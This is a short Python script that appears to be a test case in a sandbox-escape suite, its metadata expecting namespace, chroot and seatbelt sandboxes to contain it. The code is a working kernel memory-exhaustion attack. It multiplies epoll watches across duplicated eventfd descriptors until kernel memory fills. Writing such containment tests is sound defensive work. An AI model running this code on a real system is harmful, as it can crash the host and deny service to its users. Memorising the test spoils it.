# /// script
# requires-python = ">=3.9"
#
# [tool.ptc-mcp.escape]
# goal = "fill memory of the kernel with watches over descriptors"
# evidence = { bound = "memory" }
# needs = ["linux"]
#
# [tool.ptc-mcp.escape.expect]
# namespaces = "contained"
# chroot = "contained"
# seatbelt = "contained"
# none = "escapes"
# ///
import ctypes
import os
import time

libc = ctypes.CDLL(None, use_errno=True)
event = ctypes.create_string_buffer(b"\1", 12)
ADD = 1
watchers, files = [], []
for _ in range(118):
    watcher = libc.epoll_create1(0)
    if watcher < 0:
        raise OSError(ctypes.get_errno(), "epoll_create1")
    watchers.append(watcher)
    files.append(libc.eventfd(0, 0))
spare = libc.eventfd(0, 0)
held = {*watchers, *files}
# The same file counts once for each number that it had when it was watched. So each number in turn is
# freed, by giving its owner another one, and given to all files.
for number in sorted(held)[:130]:
    for owners in (watchers, files):
        if number in owners:
            owners[owners.index(number)] = os.dup2(number, spare)
    for file in files:
        os.dup2(file, number)
        for watcher in watchers:
            libc.epoll_ctl(watcher, ADD, number, event)
    os.close(number)
    spare = number
time.sleep(1)
